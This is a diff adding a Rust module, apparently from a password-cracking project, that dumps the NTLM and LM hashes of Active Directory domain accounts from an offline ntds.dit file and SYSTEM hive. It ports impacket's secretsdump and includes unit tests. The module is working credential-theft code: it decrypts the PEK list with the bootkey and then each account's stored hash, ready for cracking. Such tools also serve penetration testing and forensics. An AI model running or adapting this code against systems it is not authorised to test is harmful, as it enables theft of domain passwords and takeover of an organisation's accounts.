@@ -0,0 +1,385 @@
+//! Dumps the NTLM and LM hashes of the domain accounts from an offline copy of the ntds.dit database of Active Directory.
+//!
+//! The hashes are encrypted with a PEK (password encryption key), and the PEKs are encrypted with the bootkey.
+//! The implementation follows secretsdump from impacket: https://github.com/fortra/impacket/blob/master/impacket/examples/secretsdump.py
+
+use std::{
+    fs::{self, File},
+    path::Path,
+};
+
+use aes::cipher::{generic_array::GenericArray, BlockDecryptMut, KeyIvInit};
+use anyhow::{bail, Context, Result};
+use cugparck_commons::Digest;
+use md5::{Digest as _, Md5};
+use memmap2::Mmap;
+use rc4::{KeyInit, Rc4, StreamCipher};
+
+use super::{
+    aes_decrypt_hash, bootkey, des_decrypt_hash, ese::Database, open_system_hive, Account,
+    Aes128CbcDec, HASH_LENGTH,
+};
+
+/// The table containing the objects of the directory.
+const DATATABLE: &str = "datatable";
+
+/// The column of the list of the PEKs, only stored by the object of the domain.
+const PEK_LIST: &str = "ATTk590689";
+
+/// The column of the name of an account.
+const SAM_ACCOUNT_NAME: &str = "ATTm590045";
+
+/// The column of the type of an account.
+const SAM_ACCOUNT_TYPE: &str = "ATTj590126";
+
+/// The column of the SID of an object.
+const OBJECT_SID: &str = "ATTr589970";
+
+/// The column of the encrypted NTLM hash of an account.
+const UNICODE_PWD: &str = "ATTk589914";
+
+/// The column of the encrypted LM hash of an account.
+const DBCS_PWD: &str = "ATTk589879";
+
+/// The types of the accounts with a password: users, computers and trusts.
+const ACCOUNT_TYPES: [u32; 3] = [0x30000000, 0x30000001, 0x30000002];
+
+/// The PEK list is encrypted using RC4 (Windows Server < 2016).
+const PEK_LIST_RC4: u32 = 2;
+
+/// The PEK list is encrypted using AES (Windows Server >= 2016).
+const PEK_LIST_AES: u32 = 3;
+
+/// The number of times the key material of the PEK list is hashed to build the RC4 key.
+const PEK_LIST_RC4_ROUNDS: usize = 1000;
+
+/// The offset of the key material, used as the IV with AES.
+const KEY_MATERIAL_OFFSET: usize = 8;
+
+/// The offset of the encrypted PEKs in the PEK list.
+const ENCRYPTED_PEKS_OFFSET: usize = 24;
+
+/// The offset of the PEKs in the decrypted PEK list.
+const DECRYPTED_PEKS_OFFSET: usize = 32;
+
+/// The size of a PEK in the decrypted PEK list, prefixed by its index.
+const PEK_ENTRY_SIZE: usize = 20;
+
+/// The hash is encrypted using AES instead of RC4.
+const HASH_AES: u32 = 0x13;
+
+/// The offset of the index of the PEK used to encrypt the hash.
+const HASH_PEK_INDEX_OFFSET: usize = 4;
+
+/// The offset of the hash encrypted using RC4.
+const RC4_HASH_OFFSET: usize = 24;
+
+/// The offset of the hash encrypted using AES.
+const AES_HASH_OFFSET: usize = 28;
+
+/// Reads the little endian `u32` starting a value.
+fn read_u32(value: &[u8]) -> Option<u32> {
+    Some(u32::from_le_bytes(value.get(..4)?.try_into().unwrap()))
+}
+
+/// Decrypts data using AES in CBC mode, padding the last block with zeroes.
+fn aes_decrypt(data: &[u8], key: &[u8], iv: &[u8]) -> Vec<u8> {
+    let mut aes = Aes128CbcDec::new(key.into(), iv.into());
+
+    let mut decrypted = data.to_vec();
+    decrypted.resize(data.len().next_multiple_of(HASH_LENGTH), 0);
+    for block in decrypted.chunks_exact_mut(HASH_LENGTH) {
+        aes.decrypt_block_mut(GenericArray::from_mut_slice(block));
+    }
+
+    decrypted
+}
+
+/// Decrypts the PEK list with the bootkey, and returns the PEKs by index.
+fn decrypt_pek_list(pek_list: &[u8], bootkey: &[u8]) -> Result<Vec<[u8; HASH_LENGTH]>> {
+    let invalid = "The PEK list is invalid";
+    let version = read_u32(pek_list).context(invalid)?;
+    let key_material = pek_list
+        .get(KEY_MATERIAL_OFFSET..KEY_MATERIAL_OFFSET + HASH_LENGTH)
+        .context(invalid)?;
+    let encrypted_peks = &pek_list[ENCRYPTED_PEKS_OFFSET..];
+
+    let decrypted = match version {
+        PEK_LIST_RC4 => {
+            let mut md5 = Md5::new();
+            md5.update(bootkey);
+            for _ in 0..PEK_LIST_RC4_ROUNDS {
+                md5.update(key_material);
+            }
+
+            let mut decrypted = encrypted_peks.to_vec();
+            Rc4::new(&md5.finalize()).apply_keystream(&mut decrypted);
+            decrypted
+        }
+        PEK_LIST_AES => aes_decrypt(encrypted_peks, bootkey, key_material),
+        _ => bail!("The PEK list version {version} is not supported"),
+    };
+
+    let peks = decrypted
+        .get(DECRYPTED_PEKS_OFFSET..)
+        .context(invalid)?
+        .chunks_exact(PEK_ENTRY_SIZE)
+        .enumerate()
+        // the AES PEK list ends with an entry whose index doesn't follow the previous one
+        .take_while(|(i, entry)| version == PEK_LIST_RC4 || read_u32(entry) == Some(*i as u32))
+        .map(|(_, entry)| entry[PEK_ENTRY_SIZE - HASH_LENGTH..].try_into().unwrap())
+        .collect();
+
+    Ok(peks)
+}
+
+/// Decrypts a hash of an account with the PEKs and its RID.
+fn decrypt_hash(encrypted: &[u8], peks: &[[u8; HASH_LENGTH]], rid: u32) -> Result<Digest> {
+    let invalid = "An encrypted hash is invalid";
+    let pek = peks
+        .get(*encrypted.get(HASH_PEK_INDEX_OFFSET).context(invalid)? as usize)
+        .context("A hash is encrypted with an unknown PEK")?;
+    let key_material = encrypted
+        .get(KEY_MATERIAL_OFFSET..KEY_MATERIAL_OFFSET + HASH_LENGTH)
+        .context(invalid)?;
+
+    let enc_hash = if read_u32(encrypted) == Some(HASH_AES) {
+        let double_enc_hash = encrypted
+            .get(AES_HASH_OFFSET..AES_HASH_OFFSET + HASH_LENGTH)
+            .context(invalid)?;
+
+        aes_decrypt_hash(double_enc_hash, pek, key_material)
+    } else {
+        let double_enc_hash = encrypted
+            .get(RC4_HASH_OFFSET..RC4_HASH_OFFSET + HASH_LENGTH)
+            .context(invalid)?;
+
+        let mut md5 = Md5::new();
+        md5.update(pek);
+        md5.update(key_material);
+
+        let mut enc_hash = [0u8; HASH_LENGTH];
+        Rc4::new(&md5.finalize())
+            .apply_keystream_b2b(double_enc_hash, &mut enc_hash)
+            .unwrap();
+        enc_hash
+    };
+
+    Ok(des_decrypt_hash(&enc_hash, &rid.to_le_bytes()))
+}
+
+/// Returns the domain accounts and their hashes present in the given ntds.dit database.
+pub(super) fn decrypt_domain_accounts(ntds: &Path, system: &Path) -> Result<Vec<Account>> {
+    let system = fs::read(system).context("Unable to read the SYSTEM file")?;
+    let (system_hive, _) = open_system_hive(&system)?;
+    let bootkey = bootkey(&system_hive.root_key_node()?)?;
+
+    let file = File::open(ntds).context("Unable to read the ntds.dit file")?;
+    // SAFETY: the file exists and is not being modified anywhere else.
+    let ntds = unsafe { Mmap::map(&file)? };
+    let database = Database::new(&ntds)?;
+
+    let mut pek_list = None;
+    let mut encrypted_accounts = Vec::new();
+    database.read_table(
+        DATATABLE,
+        &[
+            PEK_LIST,
+            SAM_ACCOUNT_NAME,
+            SAM_ACCOUNT_TYPE,
+            OBJECT_SID,
+            UNICODE_PWD,
+            DBCS_PWD,
+        ],
+        |values| {
+            let &[pek, name, account_type, sid, hash, lm_hash] = values else {
+                unreachable!()
+            };
+
+            if pek.is_some() {
+                pek_list = pek;
+            }
+
+            let is_account = account_type
+                .and_then(read_u32)
+                .is_some_and(|account_type| ACCOUNT_TYPES.contains(&account_type));
+            if let (true, Some(name), Some(sid)) = (is_account, name, sid) {
+                encrypted_accounts.push((name, sid, hash, lm_hash));
+            }
+
+            Ok(())
+        },
+    )?;
+
+    let pek_list = pek_list.context("The database doesn't contain the PEK list")?;
+    let peks = decrypt_pek_list(pek_list, &bootkey)?;
+
+    encrypted_accounts
+        .into_iter()
+        .map(|(name, sid, hash, lm_hash)| {
+            // the RID ends the SID, in big endian
+            let rid = sid
+                .len()
+                .checked_sub(4)
+                .map(|rid_offset| u32::from_be_bytes(sid[rid_offset..].try_into().unwrap()))
+                .context("A SID is invalid")?;
+
+            let username = String::from_utf16_lossy(
+                &name
+                    .chunks_exact(2)
+                    .map(|c| u16::from_le_bytes([c[0], c[1]]))
+                    .collect::<Vec<_>>(),
+            );
+
+            Ok(Account {
+                username,
+                hash: hash
+                    .map(|hash| decrypt_hash(hash, &peks, rid))
+                    .transpose()?,
+                lm_hash: lm_hash
+                    .map(|hash| decrypt_hash(hash, &peks, rid))
+                    .transpose()?,
+            })
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use aes::{
+        cipher::{generic_array::GenericArray, BlockEncrypt, KeyInit},
+        Aes128,
+    };
+    use des::Des;
+    use md5::{Digest as _, Md5};
+    use rc4::{Rc4, StreamCipher};
+
+    use super::{decrypt_hash, decrypt_pek_list, PEK_LIST_RC4_ROUNDS};
+    use crate::stealdows::{derive_des_key, permute, SHIFT_ARRAY_2, SHIFT_ARRAY_3};
+
+    const HASH_TEST: &str = "32ed87bdb5fdc5e9cba88547376818d4";
+    const RID_TEST: u32 = 500;
+    const BOOTKEY_TEST: [u8; 16] = [3; 16];
+    const PEKS_TEST: [[u8; 16]; 2] = [[1; 16], [2; 16]];
+
+    /// Encrypts data using AES in CBC mode, the reverse of `aes_decrypt`.
+    fn aes_encrypt(data: &[u8], key: &[u8], iv: &[u8]) -> Vec<u8> {
+        let aes = Aes128::new(key.into());
+
+        let mut encrypted = data.to_vec();
+        encrypted.resize(data.len().next_multiple_of(16), 0);
+        let mut previous = iv.to_vec();
+        for block in encrypted.chunks_exact_mut(16) {
+            block.iter_mut().zip(&previous).for_each(|(b, p)| *b ^= p);
+            aes.encrypt_block(GenericArray::from_mut_slice(block));
+            previous = block.to_vec();
+        }
+
+        encrypted
+    }
+
+    /// Encrypts a hash with the DES keys derived from the RID, the reverse of `des_decrypt_hash`.
+    fn des_encrypt_hash(hash: &[u8], rid: u32) -> Vec<u8> {
+        let rid = rid.to_le_bytes();
+        let mut encrypted = hash.to_vec();
+        for (half, shift_array) in encrypted
+            .chunks_exact_mut(8)
+            .zip([SHIFT_ARRAY_2, SHIFT_ARRAY_3])
+        {
+            let des = Des::new(
+                derive_des_key(&permute(&rid, shift_array))
+                    .as_slice()
+                    .into(),
+            );
+            des.encrypt_block(GenericArray::from_mut_slice(half));
+        }
+
+        encrypted
+    }
+
+    #[test]
+    fn test_decrypt_pek_list() {
+        let key_material = [4; 16];
+
+        // RC4 PEK list
+        let mut plain = vec![0; 32];
+        for pek in PEKS_TEST {
+            plain.extend_from_slice(&[0x10, 0, 0, 0]);
+            plain.extend_from_slice(&pek);
+        }
+        let mut md5 = Md5::new();
+        md5.update(BOOTKEY_TEST);
+        for _ in 0..PEK_LIST_RC4_ROUNDS {
+            md5.update(key_material);
+        }
+        Rc4::new(&md5.finalize()).apply_keystream(&mut plain);
+        let pek_list = [[2, 0, 0, 0, 0, 0, 0, 0].as_slice(), &key_material, &plain].concat();
+
+        assert_eq!(
+            PEKS_TEST.to_vec(),
+            decrypt_pek_list(&pek_list, &BOOTKEY_TEST).unwrap()
+        );
+
+        // AES PEK list, ending with an entry whose index doesn't follow
+        let mut plain = vec![0; 32];
+        for (i, pek) in PEKS_TEST.iter().enumerate() {
+            plain.extend_from_slice(&(i as u32).to_le_bytes());
+            plain.extend_from_slice(pek);
+        }
+        plain.extend_from_slice(&[8; 20]);
+        let encrypted = aes_encrypt(&plain, &BOOTKEY_TEST, &key_material);
+        let pek_list = [
+            [3, 0, 0, 0, 0, 0, 0, 0].as_slice(),
+            &key_material,
+            &encrypted,
+        ]
+        .concat();
+
+        assert_eq!(
+            PEKS_TEST.to_vec(),
+            decrypt_pek_list(&pek_list, &BOOTKEY_TEST).unwrap()
+        );
+
+        let unknown_version = [[4, 0, 0, 0, 0, 0, 0, 0].as_slice(), &key_material, &plain].concat();
+        assert!(decrypt_pek_list(&unknown_version, &BOOTKEY_TEST).is_err());
+    }
+
+    #[test]
+    fn test_decrypt_hash() {
+        let key_material = [5; 16];
+        let enc_hash = des_encrypt_hash(&hex::decode(HASH_TEST).unwrap(), RID_TEST);
+
+        // RC4 hash encrypted with the second PEK
+        let mut md5 = Md5::new();
+        md5.update(PEKS_TEST[1]);
+        md5.update(key_material);
+        let mut double_enc_hash = enc_hash.clone();
+        Rc4::new(&md5.finalize()).apply_keystream(&mut double_enc_hash);
+        let encrypted = [
+            [0x11, 0, 0, 0, 1, 0, 0, 0].as_slice(),
+            &key_material,
+            &double_enc_hash,
+        ]
+        .concat();
+
+        let hash = decrypt_hash(&encrypted, &PEKS_TEST, RID_TEST).unwrap();
+        assert_eq!(HASH_TEST, hex::encode(hash));
+
+        // AES hash encrypted with the first PEK
+        let double_enc_hash = aes_encrypt(&enc_hash, &PEKS_TEST[0], &key_material);
+        let encrypted = [
+            [0x13, 0, 0, 0, 0, 0, 0, 0].as_slice(),
+            &key_material,
+            &[0x10, 0, 0, 0],
+            &double_enc_hash,
+        ]
+        .concat();
+
+        let hash = decrypt_hash(&encrypted, &PEKS_TEST, RID_TEST).unwrap();
+        assert_eq!(HASH_TEST, hex::encode(hash));
+
+        let mut unknown_pek = encrypted;
+        unknown_pek[4] = 2;
+        assert!(decrypt_hash(&unknown_pek, &PEKS_TEST, RID_TEST).is_err());
+    }
+}